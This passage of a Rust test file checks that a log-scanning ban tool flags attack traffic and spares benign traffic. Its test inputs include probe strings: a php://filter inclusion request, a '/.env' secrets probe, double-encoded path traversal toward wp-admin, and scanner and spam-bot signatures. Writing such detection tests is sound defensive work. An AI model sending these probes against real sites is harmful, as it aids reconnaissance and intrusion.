            "198.18.1.6",
            vec![(
                "GET /index.php?page=php://filter/resource=index HTTP/1.1",
                200,
            )],
            UA,
            "remote-file-inclusion",
        ),
        (
            "198.18.1.7",
            vec![("GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1", 400)],
            UA,
            "scanner-signatures",
        ),
        (
            "198.18.1.8",
            vec![("POST /comments HTTP/1.1", 200)],
            "Mozilla/4.0 (compatible; XRumer 19)",
            "spam-bots",
        ),
        (
            "198.18.1.9",
            vec![("GET / HTTP/7.7", 400)],
            UA,
            "bad-protocol",
        ),
        // The normaliser: // and .. and double encoding reach the lists.
        (
            "198.18.1.10",
            vec![
                ("GET //wp-login.php HTTP/1.1", 404),
                ("GET /x/..%252fwp-admin/ HTTP/1.1", 404),
            ],
            UA,
            "wordpress-probes",
        ),
    ];
    for (n, (ip, reqs, ua, _)) in cases.iter().enumerate() {
        for (k, (r, status)) in reqs.iter().enumerate() {
            log.add((n * 20 + k * 5) as f64, ip, r, *status, ua);
        }
    }
    // Shapes: malformed requests, agent rotation, cache-busting, 401/403
    // brute force, login POST floods, a mix of refusals.
    for i in 0..11 {
        log.add(
            300.0 + i as f64,
            "198.18.2.1",
            "\\x16\\x03\\x01\\x02\\x00\\x01",
            400,
            "-",
        );
    }
    // Agent rotation is one signal (10 points): with one probe it bans.
    for i in 0..11 {
        log.add(
            400.0 + i as f64 * 2.0,
            "198.18.2.2",
            "GET /page HTTP/1.1",
            200,
            &format!("Agent/{i}"),
        );
    }
    log.add(430.0, "198.18.2.2", "GET /.env HTTP/1.1", 404, "Agent/0");
    for i in 0..121 {
        log.add(
            500.0 + i as f64 * 0.4,
            "198.18.2.3",
            &format!("GET /product?cb={}{i} HTTP/1.1", i * 7919),
            200,
            UA,
        );
    }
    for i in 0..11 {
        log.add(
            600.0 + i as f64 * 20.0,
            "198.18.2.4",
            "GET /admin/ HTTP/1.1",
            401,
            UA,
        );
    }
    for i in 0..21 {
        log.add(
            900.0 + i as f64 * 2.0,
            "198.18.2.5",
            "POST /account/login HTTP/1.1",
            200,
            UA,
        );
    }
    for i in 0..11 {
        log.add(
            1000.0 + i as f64 * 3.0,
            "198.18.2.6",
            &format!("GET /private/{i} HTTP/1.1"),
            [400, 403, 405][i % 3],
            UA,
        );
    }
    let p = log.write(dir.path(), "access.log");
    let d = decisions(&[p.to_str().unwrap()]);
    let find = |ip: &str| d.iter().find(|x| x["ip"] == ip);
    for (ip, _, _, rule) in &cases {
        let x = find(ip).unwrap_or_else(|| panic!("{ip} ({rule}) not banned: {d:#?}"));
        let said = format!("{} {}", x["rule"], x["reason"]);
        assert!(said.contains(rule), "{ip}: {said}");
    }
    for (ip, rule) in [
        ("198.18.2.1", "bad-requests"),
        ("198.18.2.2", "agent-rotation"),
        ("198.18.2.3", "cache-busting"),
        ("198.18.2.4", "auth-failures"),
        ("198.18.2.5", "login-posts"),
        ("198.18.2.6", "refusal-mix"),
    ] {
        let x = find(ip).unwrap_or_else(|| panic!("{ip} ({rule}) not banned: {d:#?}"));
        let said = format!("{} {}", x["rule"], x["reason"]);
        assert!(said.contains(rule), "{ip}: {said}");
    }
}

/// The false-ban corpus: benign traffic every site sees. Not one ban, and
/// every new pattern has to prove itself against it.
#[test]
fn a_false_ban_corpus_of_benign_traffic_yields_no_ban() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    // Feed readers polling every 15 minutes, mostly 304.
    for (k, agent) in [
        "Feedly/1.0 (+http://www.feedly.com/fetcher.html)",
        "NewsBlur Feed Fetcher - 12 subscribers",
        "Tiny Tiny RSS/22.08",
    ]
    .iter()
    .enumerate()
    {
        for i in 0..8 {
            log.add(
                i as f64 * 900.0 + k as f64,
                &format!("192.0.2.{}", 10 + k),
                "GET /feed.xml HTTP/1.1",
                if i == 0 { 200 } else { 304 },
                agent,
            );
        }
    }
    // Uptime monitors: every 30 s, HEAD and GET.
    for i in 0..240 {
        log.add(
            i as f64 * 30.0,
            "192.0.2.20",
            "HEAD / HTTP/1.1",
            200,
            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        );
        log.add(
            i as f64 * 30.0 + 1.0,
            "192.0.2.21",
            "GET /health HTTP/1.1",
            200,
            "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        );
    }
    // A link checker: one URL a second, a few dead.
    for i in 0..600 {
        let status = if i % 40 == 0 { 404 } else { 200 };
        log.add(
            i as f64,
            "192.0.2.30",
            &format!("HEAD /docs/page-{i} HTTP/1.1"),
            status,
            "W3C-checklink/5.0.0 libwww-perl/6.72",
        );
    }
    // An SEO crawler at a steady 3 pages a second with stale links.
    for i in 0..1500 {
        let (path, status) = if i % 30 == 0 {
            (format!("/gone/{i}"), 404)
        } else {
            (format!("/p/{i}"), 200)
        };
        log.add(
            i as f64 / 3.0,
            "192.0.2.40",
            &format!("GET {path} HTTP/1.1"),
            status,
            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        );
    }
    // An API client paging through results, one page a second, and
    // polling with a cache-busting timestamp once a second.
    for i in 0..600 {
        log.add(
            i as f64,
            "192.0.2.50",
            &format!("GET /api/items?page={i}&per_page=100 HTTP/1.1"),
            200,
            "python-requests/2.31.0",
        );
        log.add(
            i as f64 + 0.5,
            "192.0.2.51",
            &format!("GET /api/status?ts={} HTTP/1.1", 1_714_557_600 + i),
            200,
            "okhttp/4.12.0",
        );
    }
    // A mobile carrier's pool: 60 addresses of one /16 on a shared article.
    for i in 0..60 {
        log.add(
            2000.0 + i as f64 * 0.8,
            &format!("100.64.{}.{}", i / 8, 10 + i),
            "GET /news/big-story HTTP/2.0",
            200,
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)",
        );
    }
    // A person who mistypes a password three times, then logs in.
    for i in 0..4 {
        log.add(
            3000.0 + i as f64 * 10.0,
            "192.0.2.60",
            "POST /account/login HTTP/1.1",
            if i < 3 { 401 } else { 302 },
            UA,
        );
    }
    // Someone searching as they type (distinct queries on one path).
    for (i, q) in [
        "a",
        "ap",
        "app",
        "appl",
        "apple",
        "apple+pie",
        "apple+pie+recipe",
    ]
    .iter()
    .enumerate()
    {
        log.add(
            3100.0 + i as f64 * 0.3,
            "192.0.2.61",
            &format!("GET /search?q={q} HTTP/1.1"),
            200,
            UA,
        );
    }
    // A site admin in their own (non-listed) admin area, a stray 403.
    for i in 0..30 {
        log.add(
            3200.0 + i as f64 * 4.0,
            "192.0.2.62",
            &format!("GET /admin/orders/{i} HTTP/1.1"),
            200,
            UA,
        );
    }
    log.add(
        3330.0,
        "192.0.2.62",
        "GET /admin/settings HTTP/1.1",
        403,
        UA,
    );
    // A link with an external URL in the query (a login redirect).
    log.add(
        3400.0,
        "192.0.2.63",
        "GET /login?next=https://shop.example/cart HTTP/1.1",
        200,
        UA,
    );
    // A browser sending one broken request.
    log.add(3500.0, "192.0.2.64", "", 400, "-");
    let p = log.write(dir.path(), "access.log");
    let d = decisions(&[p.to_str().unwrap()]);
    assert!(d.is_empty(), "false bans: {d:#?}");
}

/// Error logs: nginx and Apache error lines are recognised, become
/// records with the client, and the error-log rules ban what fail2ban's
/// web filters ban: basic-auth guessing, throttled clients, missing-script
/// probes, overlong requests, ModSecurity denials. A server message naming
/// no client is not a request.
#[test]
fn error_logs_are_read_and_their_rules_fire() {
    let dir = tempfile::tempdir().unwrap();
    let mut nginx = String::new();
    let at = |s: u32| format!("2024/05/01 10:{:02}:{:02}", s / 60, s % 60);
    let _ = writeln!(
        nginx,
        "{} [notice] 1#1: using the \"epoll\" event method",
        at(0)
    );
    for i in 0..6 {
        let _ = writeln!(
            nginx,
            "{} [error] 77#77: *{i} user \"admin\": password mismatch, client: 198.18.3.1, server: _, request: \"GET /admin HTTP/1.1\", host: \"h\"",
            at(10 + i * 10)
        );
    }
    for i in 0..21 {
        let _ = writeln!(
            nginx,
            "{} [error] 77#77: *{i} limiting requests, excess: 20.5 by zone \"one\", client: 198.18.3.2, server: _, request: \"GET / HTTP/1.1\", host: \"h\"",
            at(120 + i)
        );
    }
    for i in 0..11 {
        let _ = writeln!(
            nginx,
            "{} [error] 77#77: *{i} open() \"/var/www/x{i}.php\" failed (2: No such file or directory), client: 198.18.3.3, server: _, request: \"GET /x{i}.php HTTP/1.1\", host: \"h\"",
            at(200 + i * 2)
        );
    }
    // One 404-ish error from an ordinary visitor: left alone.
    let _ = writeln!(
        nginx,
        "{} [error] 77#77: *99 open() \"/var/www/favicon.ico\" failed (2: No such file or directory), client: 192.0.2.77, server: _, request: \"GET /favicon.ico HTTP/1.1\", host: \"h\"",
        at(300)
    );
    let p = write(dir.path(), "error.log", &nginx);
    let out = webfence()
        .args(["report", "--json"])
        .arg(&p)
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["summary"]["format"], "nginx_error");
    assert_eq!(doc["summary"]["requests"], 39);
    assert_eq!(doc["summary"]["malformed"], 1, "the notice names no client");
    assert_eq!(doc["levels"][0]["level"], "error");
    assert_eq!(doc["levels"][0]["hits"], 39);
    // Message kinds: the 21 throttle lines differ only in numbers, the 12
    // missing files only in their paths.
    let kinds: Vec<(String, u64)> = doc["error_messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            (
                m["message"].as_str().unwrap().to_string(),
                m["hits"].as_u64().unwrap(),
            )
        })
        .collect();
    assert!(
        kinds.contains(&(
            "limiting requests, excess: N.N by zone \"…\"".to_string(),
            21
        )),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&(
            "open() \"…\" failed (N: No such file or directory)".to_string(),
            12
        )),
        "{kinds:?}"
    );
    let d = decisions(&[p.to_str().unwrap()]);
    let rule_of = |ip: &str| {
        d.iter()
            .find(|x| x["ip"] == ip)
            .map(|x| x["rule"].as_str().unwrap_or("").to_string())
    };
    assert_eq!(
        rule_of("198.18.3.1").as_deref(),
        Some("error-auth-failures"),
        "{d:#?}"
    );
    assert_eq!(rule_of("198.18.3.2").as_deref(), Some("error-limited"));
    assert_eq!(
        rule_of("198.18.3.3").as_deref(),
        Some("error-missing-files")
    );
    assert_eq!(rule_of("192.0.2.77"), None);

    let mut apache = String::new();
    for i in 0..6 {
        let _ = writeln!(
            apache,
            "[Wed May 01 10:00:{i:02}.123456 2024] [auth_basic:error] [pid 12:tid 34] [client 198.18.4.1:5{i}000] AH01618: user bob not found: /private"
        );
    }
    for i in 0..2 {
        let _ = writeln!(
            apache,
            "[Wed May 01 10:01:{i:02} 2024] [error] [client 198.18.4.2] ModSecurity: Access denied with code 403 (phase 2). [file \"x\"] [id \"942100\"]"
        );
    }
    for i in 0..2 {
        let _ = writeln!(
            apache,
            "[Wed May 01 10:02:{i:02} 2024] [core:error] [pid 9] [client [2001:db8::44]:443] AH00565: request failed: URI too long (longer than 8190)"
        );
    }
    let p = write(dir.path(), "apache_error.log", &apache);
    let d = decisions(&[p.to_str().unwrap()]);
    let banned: Vec<&str> = d.iter().filter_map(|x| x["ip"].as_str()).collect();
    assert!(banned.contains(&"198.18.4.1"), "{d:#?}");
    assert!(banned.contains(&"198.18.4.2"), "{d:#?}");
    assert!(banned.contains(&"2001:db8::44"), "{d:#?}");
}

/// The engine in shards decides as on one thread: the same JSON lines in
/// the same order, on the shipped sample and on a flood from many
/// networks.
#[test]
fn shards_give_the_decisions_of_one_thread() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    for n in 0..40 {
        for i in 0..160 {
            let ip = format!("10.{n}.{}.{}", i % 3, n + 1);
            log.add(
                n as f64 * 2.0 + i as f64 * 0.05,
                &ip,
                "GET /search?q=1 HTTP/1.1",
                200,
                UA,
            );
        }
    }
    let flood = log.write(dir.path(), "flood.log");
    for input in [common::sample(), flood] {
        let run = |threads: &str| {
            let input = input.to_string_lossy();
            common::succeeds(&["replay", "--json", "--quiet", "--threads", threads, &input]).0
        };
        let one = run("1");
        assert!(
            one.lines().count() > 10,
            "{}: too few decisions to compare",
            input.display()
        );
        for threads in ["2", "4"] {
            assert_eq!(
                run(threads),
                one,
                "{} with {threads} threads",
                input.display()
            );
        }
    }
}

/// A rule counting across all clients cannot be split by client: replay
/// says the rules run on one thread, and why.
#[test]
fn a_rule_over_all_clients_runs_on_one_thread_and_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let config = write(
        dir.path(),
        "hot.toml",
        "[rules.hot-path]\nkind = \"rate\"\nkey = \"path\"\nlimit = 50\nwindow = \"10s\"\naction = \"log\"\n",
    );
    let replay = |threads: &str| {
        let (config, sample) = (config.to_string_lossy(), common::sample());
        let sample = sample.to_string_lossy();
        common::succeeds(&[
            "replay",
            "--json",
            "--threads",
            threads,
            "-c",
            &config,
            &sample,
        ])
        .1
    };
    let err = replay("2");
    assert!(
        err.contains("rule 'hot-path' counts across all clients (key = \"path\"): the rules run on one thread"),
        "{err}"
    );
    assert!(!replay("1").contains("one thread"));
}
